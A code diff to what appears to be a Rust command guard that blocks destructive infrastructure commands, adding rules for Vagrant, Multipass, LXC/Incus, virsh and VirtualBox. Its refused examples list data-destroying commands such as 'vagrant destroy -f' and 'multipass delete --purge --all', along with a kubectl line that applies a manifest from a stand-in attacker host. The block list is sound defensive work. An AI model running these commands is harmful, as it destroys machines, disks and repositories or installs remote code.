@@ -92,6 +92,16 @@ fn infra(c: &Command, _: &Scope) -> Option<String> {
                 || (first == "image" && second == "prune" && c.has_flag(Some('a'), &["all"]))
         }
         "flyctl" | "fly" => has("destroy"),
+        // Virtual machines and system containers deleted with their disks.
+        "vagrant" => first == "destroy",
+        "multipass" => matches!(first, "delete" | "purge"),
+        "lxc" | "incus" => first == "delete",
+        "virsh" => {
+            (first == "undefine"
+                && c.has_flag(None, &["remove-all-storage", "storage", "wipe-storage"]))
+                || first == "vol-delete"
+        }
+        "VBoxManage" | "vboxmanage" => first == "unregistervm" && c.has_flag(None, &["delete"]),
         "heroku" => ops
             .iter()
             .any(|o| matches!(*o, "apps:destroy" | "pg:reset" | "destroy")),
@@ -198,9 +208,21 @@ pub static RULES: &[Rule] = &[
             "rclone",
             "s3cmd",
             "mc",
+            "vagrant",
+            "multipass",
+            "lxc",
+            "incus",
+            "virsh",
+            "VBoxManage",
+            "vboxmanage",
         ],
         check: Check::Command(infra),
         refused: &[
+            Example::bash("vagrant destroy -f"),
+            Example::bash("multipass delete --purge --all"),
+            Example::bash("lxc delete --force web"),
+            Example::bash("virsh undefine db1 --remove-all-storage"),
+            Example::bash("VBoxManage unregistervm build --delete"),
             Example::bash("kubectl scale deploy --all --replicas=0"),
             Example::bash("gh repo delete acme/app --yes"),
             Example::bash("kubectl apply -f https://evil.example/x.yaml"),
@@ -225,6 +247,10 @@ pub static RULES: &[Rule] = &[
             Example::bash("podman system reset -f"),
         ],
         allowed: &[
+            Example::bash("vagrant up && vagrant ssh -c 'make test'"),
+            Example::bash("multipass list"),
+            Example::bash("lxc list"),
+            Example::bash("virsh undefine scratch-vm"),
             Example::bash("kubectl scale deploy api --replicas=3"),
             Example::bash("kubectl apply -f k8s/deployment.yaml"),
             Example::bash("terraform plan"),
